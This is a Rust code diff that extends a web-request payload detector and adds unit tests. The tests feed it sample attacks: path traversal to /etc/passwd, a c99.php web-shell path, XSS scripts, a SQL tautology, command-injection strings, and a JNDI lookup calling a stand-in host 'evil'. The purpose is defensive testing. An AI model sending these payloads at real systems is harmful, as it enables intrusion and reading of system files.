@@ -313,6 +313,13 @@ impl PayloadMatcher {
         if self.shell.is_lone_command(&scratch.canonical) {
             found.insert(PayloadKind::CommandInjection);
         }
+        // A lone catalogue name such as information_schema is plain text too.
+        if self
+            .sql
+            .is_injection(&scratch.canonical, &mut scratch.shape)
+        {
+            found.insert(PayloadKind::SqlInjection);
+        }
         found
     }
 }
@@ -337,5 +344,103 @@ fn built_in_rule(error: regex::Error) -> DetectError {
         line: 0,
         entry: error.to_string(),
         reason: "rule does not compile",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Scans each case and compares the kinds found, by name, with the expected ones.
+    fn check(cases: &[(Location, &str, &[PayloadKind])]) {
+        let matcher = PayloadMatcher::builtin();
+        for (location, raw, expected) in cases {
+            let found = matcher.scan(*location, raw);
+            let expected: PayloadSet = expected.iter().copied().collect();
+            assert_eq!(found, expected, "{location:?} {raw:?}");
+        }
+    }
+
+    #[test]
+    fn each_kind_is_found_where_it_is_carried() {
+        use PayloadKind::*;
+        check(&[
+            (
+                Location::Path,
+                "/static/..%2f..%2fetc/passwd",
+                &[PathTraversal],
+            ),
+            (Location::Path, "/wp-content/uploads/c99.php", &[WebShell]),
+            (
+                Location::Query,
+                "q=%3Cscript%3Ealert(1)%3C/script%3E",
+                &[Xss],
+            ),
+            (
+                Location::Query,
+                "id=1%27+or+%271%27%3D%271",
+                &[SqlInjection],
+            ),
+            (
+                Location::Query,
+                "host=x;cat+/etc/passwd",
+                &[PathTraversal, CommandInjection],
+            ),
+            (Location::Query, "cmd=whoami", &[CommandInjection]),
+            (
+                Location::Header,
+                "${jndi:ldap://evil/a}",
+                &[CommandInjection],
+            ),
+            (Location::Cookie, "a=1; b=%3Csvg/onload=alert(1)%3E", &[Xss]),
+            (Location::Body, "information_schema", &[SqlInjection]),
+        ]);
+    }
+
+    #[test]
+    fn ordinary_components_are_clean() {
+        check(&[
+            (Location::Path, "/static/app-1.2.js", &[]),
+            (Location::Path, "/blog/2015/05/union-station", &[]),
+            (Location::Query, "q=drop+table+ideas&page=2", &[]),
+            (Location::Query, "name=O%27Brien&city=St.+John%27s", &[]),
+            (Location::Query, "search=time+warner;+more+than+ever", &[]),
+            (
+                Location::Header,
+                "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0)",
+                &[],
+            ),
+            (Location::Cookie, "session=abc123; theme=dark", &[]),
+            (
+                Location::Body,
+                "I'd like to select one from the list, and order by price",
+                &[],
+            ),
+        ]);
+    }
+
+    #[test]
+    fn sets_behave_as_sets() {
+        let mut set = PayloadSet::new();
+        assert!(set.is_empty());
+        set.insert(PayloadKind::Xss);
+        set.insert(PayloadKind::Xss);
+        let both = set.union([PayloadKind::WebShell].into_iter().collect());
+        assert_eq!(both.len(), 2);
+        assert_eq!(
+            both.iter().collect::<Vec<_>>(),
+            [PayloadKind::Xss, PayloadKind::WebShell]
+        );
+        let names: Vec<&str> = PayloadKind::ALL.iter().map(|kind| kind.name()).collect();
+        assert_eq!(
+            names,
+            [
+                "path_traversal",
+                "xss",
+                "sql_injection",
+                "command_injection",
+                "web_shell"
+            ]
+        );
     }
 }
